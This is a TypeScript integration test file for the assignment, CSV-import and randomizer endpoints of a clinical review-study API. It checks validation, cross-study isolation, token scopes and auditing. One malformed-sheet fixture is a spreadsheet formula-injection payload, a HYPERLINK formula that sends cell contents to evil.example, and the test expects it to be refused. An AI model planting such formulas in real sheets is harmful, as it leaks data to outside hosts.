// Assignments over HTTP against the real app (docs/api/reviews.md "Assignments"): uploads by API
// and as an AugMed sheet, the list, and the randomizer; and the threats — rows naming unknown or
// foreign participants, cases and arms, duplicates, malformed sheets (bad quoting, wrong columns,
// a BOM, CRLF, a 10 MB line, formula cells, invalid UTF-8), a partly written upload (V1, all or
// nothing), another study's researcher or ids (Z4), a participant's token (Z2), reproducibility
// and balance of the randomizer, and the audit of every creation (L3).
import { randomUUID } from 'node:crypto';
import type { LightMyRequestResponse } from 'fastify';
import { beforeAll, describe, expect, it } from 'vitest';
import { describeClinic, type Actor } from '../../../../test/clinical-actors.js';
import {
  SAMPLE_TREE,
  addParticipant,
  createStudyWorld,
  insertAssignment,
  insertCase,
  insertStudy,
  type StudyWorld,
} from '../../../../test/review-actors.js';
import type { CaseNode, DisplayConfigView } from '../shared/schemas.js';

interface Problem {
  code: string;
  detail: string;
  errors?: Array<{ field: string; message: string }>;
}
interface Listed {
  id: string;
  participantId: string;
  participantName: string;
  caseId: string;
  caseExternalId: string;
  armId: string | null;
  armName: string | null;
  position: number;
  source: string;
  answered: boolean;
}
interface Randomization {
  id: string;
  experimentId: string;
  seed: string;
  casesPerParticipant: number;
  assignmentCount: number;
}

const HEADER = 'participant_email,case_id,path,collapse,highlight,top,show_ai_score,hidden,arm';
/** A case without the history section: templates naming history/* must skip it. */
const VITALS_ONLY: CaseNode[] = [SAMPLE_TREE[0]!];
const TEMPLATE_A: DisplayConfigView = {
  showAiScore: true,
  features: [
    { path: 'vitals/heart_rate', highlighted: true, top: 1 },
    { path: 'history/smoker', collapsed: true },
  ],
};
const TEMPLATE_B: DisplayConfigView = {
  showAiScore: false,
  features: [{ path: 'history', hidden: true }],
};
const TEMPLATE_C: DisplayConfigView = { showAiScore: true, features: [] };

interface Stage {
  studyId: string;
  participants: Actor[];
  /** Case ids by external id. */
  cases: Map<string, string>;
  experimentId: string;
  /** Arm ids by name. */
  arms: Map<string, string>;
}

describeClinic('reviews: assignments', (clinic) => {
  const call = clinic.call;
  let world: StudyWorld;
  let owner: Actor;

  const base = (studyId: string) => `/api/studies/${studyId}`;
  const problem = (res: LightMyRequestResponse) => res.json<Problem>();
  const fields = (res: LightMyRequestResponse) => (problem(res).errors ?? []).map((e) => e.field);
  const uploadCsv = (actor: Actor, studyId: string, csv: string | Buffer, type = 'text/csv') =>
    clinic.app.inject({
      method: 'POST',
      url: `${base(studyId)}/assignments/import`,
      headers: { authorization: actor.authorization, 'content-type': type },
      payload: csv,
    });
  const assignmentsOf = (studyId: string) =>
    clinic.db
      .selectFrom('review_assignments as a')
      .innerJoin('review_cases as c', 'c.id', 'a.case_id')
      .leftJoin('experiment_arms as arm', 'arm.id', 'a.arm_id')
      .select([
        'a.participant_id',
        'c.external_id',
        'arm.name as arm',
        'a.position',
        'a.display',
        'a.source',
      ])
      .where('a.study_id', '=', studyId)
      .orderBy('a.participant_id')
      .orderBy('a.position')
      .execute();

  /** A study with participants, cases (case-1… with SAMPLE_TREE, the last VITALS_ONLY) and a 3-arm experiment. */
  async function stage(options: { participants?: number; cases?: number } = {}): Promise<Stage> {
    const studyId = await insertStudy(clinic.db, world.organizationId, owner.userId);
    const participants: Actor[] = [];
    for (let i = 0; i < (options.participants ?? 3); i += 1) {
      participants.push(await addParticipant(clinic.app, studyId, `Participant ${i + 1}`));
    }
    const cases = new Map<string, string>();
    const caseCount = options.cases ?? 4;
    for (let i = 1; i <= caseCount; i += 1) {
      const externalId = `case-${String(i).padStart(2, '0')}`;
      cases.set(
        externalId,
        await insertCase(clinic.db, studyId, externalId, {
          tree: i === caseCount ? VITALS_ONLY : SAMPLE_TREE,
        }),
      );
    }
    const res = await call(owner, 'POST', `${base(studyId)}/experiments`, {
      name: 'Display study',
      arms: [
        { name: 'A', display: TEMPLATE_A },
        { name: 'B', display: TEMPLATE_B },
        { name: 'C', display: TEMPLATE_C },
      ],
    });
    expect(res.statusCode, res.body).toBe(201);
    const experiment = res.json<{
      experiment: { id: string; arms: Array<{ id: string; name: string }> };
    }>().experiment;
    return {
      studyId,
      participants,
      cases,
      experimentId: experiment.id,
      arms: new Map(experiment.arms.map((arm) => [arm.name, arm.id])),
    };
  }

  beforeAll(async () => {
    world = await createStudyWorld(clinic.app);
    owner = world.owner;
  });

  describe('JSON uploads and the list', () => {
    it('L3: creates assignments after existing positions, with explicit, arm and plain displays; audited', async () => {
      const s = await stage();
      const [p1, p2] = s.participants as [Actor, Actor];
      await insertAssignment(clinic.db, s.studyId, p1.userId, s.cases.get('case-01')!);
      const explicit: DisplayConfigView = {
        showAiScore: true,
        features: [{ path: 'vitals/spo2', top: 2 }],
      };
      const res = await call(owner, 'POST', `${base(s.studyId)}/assignments`, {
        assignments: [
          { participantId: p1.userId, caseId: s.cases.get('case-04')!, armId: s.arms.get('A') },
          { participantId: p1.userId, caseId: s.cases.get('case-02')!, display: explicit },
          { participantId: p2.userId, caseId: s.cases.get('case-01')! },
        ],
      });
      expect(res.statusCode, res.body).toBe(201);
      expect(res.json()).toEqual({ created: 3 });
      const rows = await clinic.db
        .selectFrom('review_assignments')
        .select(['participant_id', 'case_id', 'position', 'display', 'arm_id', 'source'])
        .where('study_id', '=', s.studyId)
        .execute();
      const find = (participantId: string, externalId: string) =>
        rows.find(
          (r) => r.participant_id === participantId && r.case_id === s.cases.get(externalId),
        );
      // case-04 has no history section: the arm's history/smoker feature is dropped for it.
      expect(find(p1.userId, 'case-04')).toMatchObject({
        position: 2,
        arm_id: s.arms.get('A'),
        source: 'api',
        display: { showAiScore: true, features: [TEMPLATE_A.features[0]] },
      });
      expect(find(p1.userId, 'case-02')).toMatchObject({
        position: 3,
        display: explicit,
        arm_id: null,
      });
      expect(find(p2.userId, 'case-01')).toMatchObject({
        position: 1,
        display: { showAiScore: false, features: [] },
      });
      const [event] = await clinic.db
        .selectFrom('audit_events')
        .select(['actor_id', 'target_id', 'details'])
        .where('action', '=', 'review.assignments_created')
        .where('target_id', '=', s.studyId)
        .execute();
      expect(event).toMatchObject({ actor_id: owner.userId, details: { count: 3, source: 'api' } });
    });

    it('lists assignments in pages with a cursor, and by participant', async () => {
      const s = await stage();
      const [p1, p2] = s.participants as [Actor, Actor];
      for (const externalId of ['case-01', 'case-02', 'case-03']) {
        await insertAssignment(clinic.db, s.studyId, p1.userId, s.cases.get(externalId)!, {
          armId: s.arms.get('B'),
        });
      }
      await insertAssignment(clinic.db, s.studyId, p2.userId, s.cases.get('case-01')!);
      const seen: Listed[] = [];
      let next: string | null = null;
      do {
        const query: string = next ? `?limit=3&after=${next}` : '?limit=3';
        const res = await call(owner, 'GET', `${base(s.studyId)}/assignments${query}`);
        expect(res.statusCode, res.body).toBe(200);
        const page = res.json<{ assignments: Listed[]; next: string | null }>();
        seen.push(...page.assignments);
        next = page.next;
      } while (next);
      expect(seen).toHaveLength(4);
      expect(new Set(seen.map((a) => a.id)).size).toBe(4);
      expect(seen.find((a) => a.participantId === p1.userId && a.position === 1)).toMatchObject({
        participantName: 'Participant 1',
        caseExternalId: 'case-01',
        armName: 'B',
        source: 'api',
        answered: false,
      });
      const mine = await call(
        owner,
        'GET',
        `${base(s.studyId)}/assignments?participantId=${p2.userId}`,
      );
      expect(
        mine.json<{ assignments: Listed[] }>().assignments.map((a) => a.caseExternalId),
      ).toEqual(['case-01']);
      const tooMany = await call(owner, 'GET', `${base(s.studyId)}/assignments?limit=201`);
      expect(tooMany.statusCode).toBe(400);
    });

    it('V1: every bad row is named, duplicates included, and nothing is written', async () => {
      const s = await stage();
      const [p1, p2, p3] = s.participants as [Actor, Actor, Actor];
      await insertAssignment(clinic.db, s.studyId, p2.userId, s.cases.get('case-02')!);
      await clinic.db
        .updateTable('study_members')
        .set({ removed_at: new Date() })
        .where('study_id', '=', s.studyId)
        .where('user_id', '=', p3.userId)
        .execute();
      const before = (await assignmentsOf(s.studyId)).length;
      const res = await call(owner, 'POST', `${base(s.studyId)}/assignments`, {
        assignments: [
          { participantId: p1.userId, caseId: s.cases.get('case-01')! },
          { participantId: randomUUID(), caseId: s.cases.get('case-01')! },
          { participantId: p1.userId, caseId: randomUUID() },
          { participantId: p1.userId, caseId: s.cases.get('case-02')!, armId: randomUUID() },
          { participantId: p1.userId, caseId: s.cases.get('case-01')! },
          { participantId: p2.userId, caseId: s.cases.get('case-02')! },
          { participantId: p3.userId, caseId: s.cases.get('case-03')! },
          { participantId: owner.userId, caseId: s.cases.get('case-03')! },
          {
            participantId: p1.userId,
            caseId: s.cases.get('case-04')!,
            display: {
              showAiScore: false,
              features: [
                { path: 'history/smoker' },
                { path: 'vitals/spo2', top: 1 },
                { path: 'vitals/spo2', top: 1 },
              ],
            },
          },
        ],
      });
      expect(res.statusCode, res.body).toBe(400);
      expect(problem(res).code).toBe('VALIDATION_FAILED');
      expect(fields(res).sort()).toEqual(
        [
          'assignments.1.participantId',
          'assignments.2.caseId',
          'assignments.3.armId',
          'assignments.4.caseId',
          'assignments.5.caseId',
          'assignments.6.participantId',
          'assignments.7.participantId',
          'assignments.8.display.features.0.path',
          'assignments.8.display.features.2.path',
          'assignments.8.display.features.2.top',
        ].sort(),
      );
      expect(problem(res).detail).toMatch(/Nothing was written/);
      expect(await assignmentsOf(s.studyId)).toHaveLength(before);
    });
  });

  describe('CSV sheets', () => {
    it('L3: builds one display per participant and case from several lines (BOM, CRLF, yes/no/1/0, arm by name)', async () => {
      const s = await stage();
      const [p1, p2] = s.participants as [Actor, Actor];
      await insertAssignment(clinic.db, s.studyId, p1.userId, s.cases.get('case-03')!);
      const sheet = [
        HEADER,
        `${p1.email.toUpperCase()},case-01,vitals/heart_rate,no,yes,1,true,,`,
        `${p1.email},case-01,history,1,0,,,false,`,
        `${p1.email},case-02,,,,,,,`,
        `"${p2.email}",case-04,,,,,,,a`,
        '',
        `${p2.email},case-01,vitals/spo2,,,,,TRUE,`,
      ].join('\r\n');
      const res = await uploadCsv(
        owner,
        s.studyId,
        Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(sheet)]),
      );
      expect(res.statusCode, res.body).toBe(201);
      expect(res.json()).toEqual({ created: 4, participants: 2, cases: 3 });
      const rows = await assignmentsOf(s.studyId);
      const find = (participantId: string, externalId: string) =>
        rows.find((r) => r.participant_id === participantId && r.external_id === externalId);
      expect(find(p1.userId, 'case-01')).toMatchObject({
        position: 2,
        source: 'csv',
        display: {
          showAiScore: true,
          features: [
            { path: 'vitals/heart_rate', collapsed: false, highlighted: true, top: 1 },
            { path: 'history', collapsed: true, highlighted: false, hidden: false },
          ],
        },
      });
      expect(find(p1.userId, 'case-02')).toMatchObject({
        position: 3,
        display: { showAiScore: false, features: [] },
      });
      expect(find(p2.userId, 'case-04')).toMatchObject({
        arm: 'A',
        display: { showAiScore: true, features: [TEMPLATE_A.features[0]] },
      });
      expect(find(p2.userId, 'case-01')).toMatchObject({
        display: { showAiScore: false, features: [{ path: 'vitals/spo2', hidden: true }] },
      });
      const [event] = await clinic.db
        .selectFrom('audit_events')
        .select('details')
        .where('action', '=', 'review.assignments_created')
        .where('target_id', '=', s.studyId)
        .execute();
      expect(event?.details).toMatchObject({ count: 4, source: 'csv' });
    });

    it('V1: malformed sheets are a 400 naming the line; nothing is written', async () => {
      const s = await stage();
      const p1 = s.participants[0]!;
      const good = `${p1.email},case-01,,,,,,,`;
      const sheets: Array<[string, string | Buffer, string]> = [
        ['an unclosed quote', `${HEADER}\n${good}\n"${p1.email},case-02,,,,,,,\n`, 'line 3'],
        [
          'a quote inside a cell',
          `${HEADER}\n${good}\nab"c@example.org,case-02,,,,,,,\n`,
          'line 3',
        ],
        ['text after a closing quote', `${HEADER}\n"${p1.email}"x,case-02,,,,,,,\n`, 'line 2'],
        ['too few cells', `${HEADER}\n${good}\n${p1.email},case-02\n`, 'line 3'],
        ['too many cells', `${HEADER}\n${good},extra\n`, 'line 2'],
        [
          'a missing column',
          `participant_email,case_id,path,collapse,highlight\n${p1.email},case-01,,,\n`,
          'line 1: top',
        ],
        ['an unknown column', `${HEADER},colour\n${good},red\n`, 'line 1: column 10'],
        ['a repeated column', `${HEADER},arm\n${good},\n`, 'line 1: column 10'],
        [
          'a 10 MB line',
          `${HEADER}\n${p1.email},case-01,${'x'.repeat(10.5 * 1024 * 1024)},,,,,,\n`,
          'line 2',
        ],
        [
          'a bad boolean',
          `${HEADER}\n${p1.email},case-01,history,maybe,,,,,\n`,
          'line 2: collapse',
        ],
        ['a fractional top', `${HEADER}\n${p1.email},case-01,history,,,1.5,,,\n`, 'line 2: top'],
        ['a negative top', `${HEADER}\n${p1.email},case-01,history,,,-1,,,\n`, 'line 2: top'],
        [
          'a malformed path',
          `${HEADER}\n${p1.email},case-01,history//smoker,,,,,,\n`,
          'line 2: path',
        ],
        ['settings without a path', `${HEADER}\n${p1.email},case-01,,yes,,,,,\n`, 'line 2: path'],
        [
          'a formula instead of an email',
          `${HEADER}\n"=HYPERLINK(""http://evil.example/?""&A1,""click"")",case-01,,,,,,,\n`,
          'line 2: participant_email',
        ],
        ['an unknown case', `${HEADER}\n${p1.email},case-99,,,,,,,\n`, 'line 2: case_id'],
        [
          'a path the case does not have',
          `${HEADER}\n${good}\n${p1.email},case-04,history/smoker,,,,,,\n`,
          'line 3: path',
        ],
        [
          'a repeated path',
          `${HEADER}\n${p1.email},case-01,history,,,,,,\n${p1.email},case-01,history,yes,,,,,\n`,
          'line 3: path',
        ],
        [
          'disagreeing AI-score cells',
          `${HEADER}\n${p1.email},case-01,history,,,,yes,,\n${p1.email},case-01,vitals,,,,no,,\n`,
          'line 3: show_ai_score',
        ],
        ['an unknown arm', `${HEADER}\n${p1.email},case-01,,,,,,,Z\n`, 'line 2: arm'],
        ['a header alone', `${HEADER}\n`, 'line 2'],
        [
          'a line break inside a cell',
          `${HEADER}\n${good}\n"a\nb@example.org",case-01,,,,,,,\n`,
          'line 3',
        ],
        [
          'a blank line then a bad one',
          `${HEADER}\n\n${good}\n\n${p1.email},case-99,,,,,,,\n`,
          'line 5: case_id',
        ],
      ];
      for (const [name, sheet, field] of sheets) {
        const res = await uploadCsv(owner, s.studyId, sheet);
        expect(res.statusCode, `${name}: ${res.body.slice(0, 300)}`).toBe(400);
        expect(fields(res), name).toContain(field);
      }
      const invalidUtf8 = Buffer.concat([
        Buffer.from(`${HEADER}\n`),
        Buffer.from([0xc3, 0x28]),
        Buffer.from(',case-01,,,,,,,\n'),
      ]);
      expect((await uploadCsv(owner, s.studyId, invalidUtf8)).statusCode).toBe(400);
      const json = await uploadCsv(
        owner,
        s.studyId,
        JSON.stringify({ assignments: [] }),
        'application/json',
      );
      expect(json.statusCode).toBe(400);
      expect(await assignmentsOf(s.studyId)).toHaveLength(0);
    });

    it('V1: all or nothing: one bad line among many good ones writes nothing', async () => {
      const s = await stage({ participants: 3, cases: 4 });
      const lines = [HEADER];
      for (const p of s.participants) {
        for (const externalId of ['case-01', 'case-02', 'case-03']) {
          lines.push(`${p.email},${externalId},,,,,,,`);
        }
      }
      lines.push(`${s.participants[0]!.email},case-04,history,,,,,,`);
      const res = await uploadCsv(owner, s.studyId, lines.join('\n'));
      expect(res.statusCode).toBe(400);
      expect(fields(res)).toEqual(['line 11: path']);
      expect(await assignmentsOf(s.studyId)).toHaveLength(0);
    });
  });

  describe('the randomizer', () => {
    const randomizeIn = (s: Stage, body: object = {}) =>
      call(owner, 'POST', `${base(s.studyId)}/randomizations`, {
        experimentId: s.experimentId,
        casesPerParticipant: 5,
        ...body,
      });
    /** The plan as study-independent facts: participant index, case external id, arm, position. */
    async function shape(s: Stage) {
      const index = new Map(s.participants.map((p, i) => [p.userId, i]));
      return (await assignmentsOf(s.studyId))
        .map((r) => [index.get(r.participant_id), r.external_id, r.arm, r.position])
        .sort((a, b) => String(a).localeCompare(String(b)));
    }

    it('L3: balanced cases and arms, displays fitted to each case, the run recorded with its inputs', async () => {
      const s = await stage({ participants: 4, cases: 9 });
      const res = await randomizeIn(s, { seed: 'balance-check' });
      expect(res.statusCode, res.body).toBe(201);
      const run = res.json<{ randomization: Randomization }>().randomization;
      expect(run).toMatchObject({
        seed: 'balance-check',
        casesPerParticipant: 5,
        assignmentCount: 20,
      });
      const rows = await assignmentsOf(s.studyId);
      expect(rows).toHaveLength(20);
      const perCase = new Map<string, number>();
      for (const row of rows) perCase.set(row.external_id, (perCase.get(row.external_id) ?? 0) + 1);
      expect(perCase.size).toBe(9);
      expect(Math.max(...perCase.values()) - Math.min(...perCase.values())).toBeLessThanOrEqual(1);
      for (const p of s.participants) {
        const mine = rows.filter((r) => r.participant_id === p.userId);
        expect(mine.map((r) => r.position)).toEqual([1, 2, 3, 4, 5]);
        expect(new Set(mine.slice(0, 3).map((r) => r.arm)).size).toBe(3);
        const perArm = ['A', 'B', 'C'].map((arm) => mine.filter((r) => r.arm === arm).length);
        expect(Math.max(...perArm) - Math.min(...perArm)).toBeLessThanOrEqual(1);
      }
      const templates: Record<string, DisplayConfigView> = {
        A: TEMPLATE_A,
        B: TEMPLATE_B,
        C: TEMPLATE_C,
      };
      for (const row of rows) {
        const template = templates[row.arm!]!;
        const paths = row.external_id === 'case-09' ? ['vitals/heart_rate'] : null;
        expect(row.display).toEqual({
          showAiScore: template.showAiScore,
          features: paths
            ? template.features.filter((f) => paths.includes(f.path))
            : template.features,
        });
        expect(row.source).toBe('randomizer');
      }
      const [stored] = await clinic.rows('randomizations', { id: run.id });
      expect(stored?.inputs).toEqual({
        participantIds: s.participants.map((p) => p.userId),
        caseIds: [...s.cases.values()],
        armIds: [...s.arms.values()],
      });
      const listed = await call(owner, 'GET', `${base(s.studyId)}/randomizations`);
      expect(listed.json<{ randomizations: Randomization[] }>().randomizations).toEqual([
        expect.objectContaining({ id: run.id, assignmentCount: 20 }),
      ]);
      const events = await clinic.db
        .selectFrom('audit_events')
        .select(['action', 'details'])
        .where('target_id', 'in', [run.id, s.studyId])
        .where('action', 'in', ['review.randomized', 'review.assignments_created'])
        .orderBy('seq')
        .execute();
      expect(events).toEqual([
        {
          action: 'review.assignments_created',
          details: expect.objectContaining({ count: 20, source: 'randomizer' }),
        },
        {
          action: 'review.randomized',
          details: expect.objectContaining({ seed: 'balance-check', count: 20 }),
        },
      ]);
    });

    it('the same seed and inputs give the same assignments in a fresh study; another seed does not', async () => {
      const first = await stage({ participants: 4, cases: 8 });
      const second = await stage({ participants: 4, cases: 8 });
      const third = await stage({ participants: 4, cases: 8 });
      const ids = (s: Stage) => ({ participantIds: s.participants.map((p) => p.userId) });
      expect((await randomizeIn(first, { seed: 'same', ...ids(first) })).statusCode).toBe(201);
      expect((await randomizeIn(second, { seed: 'same', ...ids(second) })).statusCode).toBe(201);
      expect((await randomizeIn(third, { seed: 'other', ...ids(third) })).statusCode).toBe(201);
      expect(await shape(second)).toEqual(await shape(first));
      expect(await shape(third)).not.toEqual(await shape(first));
    });

    it('keeps what participants already have: skips their cases and appends; a random seed when none is given', async () => {
      const s = await stage({ participants: 2, cases: 6 });
      const p1 = s.participants[0]!;
      await insertAssignment(clinic.db, s.studyId, p1.userId, s.cases.get('case-01')!);
      const res = await randomizeIn(s, { casesPerParticipant: 5 });
      expect(res.statusCode, res.body).toBe(201);
      expect(res.json<{ randomization: Randomization }>().randomization.seed).toMatch(
        /^[0-9a-f]{32}$/,
      );
      const mine = (await assignmentsOf(s.studyId)).filter((r) => r.participant_id === p1.userId);
      expect(mine.map((r) => r.position)).toEqual([1, 2, 3, 4, 5, 6]);
      expect(mine.filter((r) => r.external_id === 'case-01')).toHaveLength(1);
      const tooMany = await randomizeIn(s, { casesPerParticipant: 2, participantIds: [p1.userId] });
      expect(tooMany.statusCode).toBe(409);
      expect(fields(tooMany)).toEqual(['participantIds.0']);
    });

    it('V1: more cases per participant than cases, repeated ids and unknown ids are refused with their path', async () => {
      const s = await stage({ participants: 2, cases: 3 });
      expect(fields(await randomizeIn(s, { casesPerParticipant: 4 }))).toEqual([
        'casesPerParticipant',
      ]);
      const p1 = s.participants[0]!.userId;
      const res = await randomizeIn(s, {
        casesPerParticipant: 1,
        participantIds: [p1, p1, randomUUID()],
        caseIds: [randomUUID()],
      });
      expect(res.statusCode).toBe(400);
      expect(fields(res)).toEqual(['participantIds.1', 'participantIds.2', 'caseIds.0']);
      expect((await randomizeIn(s, { experimentId: randomUUID() })).statusCode).toBe(400);
      expect(await assignmentsOf(s.studyId)).toHaveLength(0);
      expect(await clinic.rows('randomizations', { study_id: s.studyId })).toHaveLength(0);
    });
  });

  describe('Z4, Z2 and the study state', () => {
    let mine: Stage;
    let theirs: Stage;
    let stranger: Actor;

    beforeAll(async () => {
      mine = await stage({ participants: 2, cases: 3 });
      const other = await createStudyWorld(clinic.app);
      stranger = other.owner;
      // The stranger's study, staged by its owner: its participants, cases and arms.
      const saved = { world, owner };
      world = other;
      owner = stranger;
      theirs = await stage({ participants: 2, cases: 3 });
      ({ world, owner } = saved);
    });

    it('Z4: a researcher of another study gets the 404 of a missing study on every route', async () => {
      const p = mine.participants[0]!;
      const url = base(mine.studyId);
      const attempts = [
        await call(stranger, 'GET', `${url}/assignments`),
        await call(stranger, 'POST', `${url}/assignments`, {
          assignments: [{ participantId: p.userId, caseId: mine.cases.get('case-01')! }],
        }),
        await uploadCsv(stranger, mine.studyId, `${HEADER}\n${p.email},case-01,,,,,,,\n`),
        await call(stranger, 'POST', `${url}/randomizations`, {
          experimentId: mine.experimentId,
          casesPerParticipant: 1,
        }),
        await call(stranger, 'GET', `${url}/randomizations`),
        await call(stranger, 'GET', `${base(randomUUID())}/assignments`),
      ];
      for (const res of attempts) {
        expect(res.statusCode, res.body).toBe(404);
        expect(problem(res).code).toBe('NOT_FOUND');
      }
      expect(await assignmentsOf(mine.studyId)).toHaveLength(0);
    });

    it("Z4: another study's participants, cases, arms and experiment in a body are refused like unknown ones", async () => {
      const foreignParticipant = theirs.participants[0]!;
      const res = await call(owner, 'POST', `${base(mine.studyId)}/assignments`, {
        assignments: [
          { participantId: foreignParticipant.userId, caseId: mine.cases.get('case-01')! },
          { participantId: mine.participants[0]!.userId, caseId: theirs.cases.get('case-01')! },
          {
            participantId: mine.participants[1]!.userId,
            caseId: mine.cases.get('case-01')!,
            armId: theirs.arms.get('A'),
          },
        ],
      });
      expect(res.statusCode).toBe(400);
      expect(fields(res)).toEqual([
        'assignments.0.participantId',
        'assignments.1.caseId',
        'assignments.2.armId',
      ]);
      const csv = await uploadCsv(
        owner,
        mine.studyId,
        `${HEADER}\n${foreignParticipant.email},case-01,,,,,,,\n`,
      );
      expect(fields(csv)).toEqual(['line 2: participant_email']);
      const random = await call(owner, 'POST', `${base(mine.studyId)}/randomizations`, {
        experimentId: theirs.experimentId,
        casesPerParticipant: 1,
        participantIds: [foreignParticipant.userId],
        caseIds: [theirs.cases.get('case-01')!],
      });
      expect(random.statusCode).toBe(400);
      expect(fields(random)).toEqual(['experimentId', 'participantIds.0', 'caseIds.0']);
      const cursor = await call(
        owner,
        'GET',
        `${base(mine.studyId)}/assignments?after=${randomUUID()}`,
      );
      expect(cursor.statusCode).toBe(404);
      expect(await assignmentsOf(mine.studyId)).toHaveLength(0);
      expect(await assignmentsOf(theirs.studyId)).toHaveLength(0);
    });

    it("Z2: a participant's token lacks the researcher scopes (403); no token is 401", async () => {
      const participant = mine.participants[0]!;
      const url = base(mine.studyId);
      for (const res of [
        await call(participant, 'GET', `${url}/assignments`),
        await call(participant, 'POST', `${url}/assignments`, {
          assignments: [{ participantId: participant.userId, caseId: mine.cases.get('case-01')! }],
        }),
        await uploadCsv(
          participant,
          mine.studyId,
          `${HEADER}\n${participant.email},case-01,,,,,,,\n`,
        ),
        await call(participant, 'POST', `${url}/randomizations`, {
          experimentId: mine.experimentId,
          casesPerParticipant: 1,
        }),
      ]) {
        expect(res.statusCode, res.body).toBe(403);
      }
      expect((await call(null, 'GET', `${url}/assignments`)).statusCode).toBe(401);
      expect(await assignmentsOf(mine.studyId)).toHaveLength(0);
    });

    it('a closed study takes no new assignments (409)', async () => {
      const closed = await stage({ participants: 1, cases: 2 });
      await clinic.db
        .updateTable('studies')
        .set({ status: 'closed' })
        .where('id', '=', closed.studyId)
        .execute();
      const res = await call(owner, 'POST', `${base(closed.studyId)}/randomizations`, {
        experimentId: closed.experimentId,
        casesPerParticipant: 1,
      });
      expect(res.statusCode).toBe(409);
      expect((await call(owner, 'GET', `${base(closed.studyId)}/assignments`)).statusCode).toBe(
        200,
      );
    });
  });
});
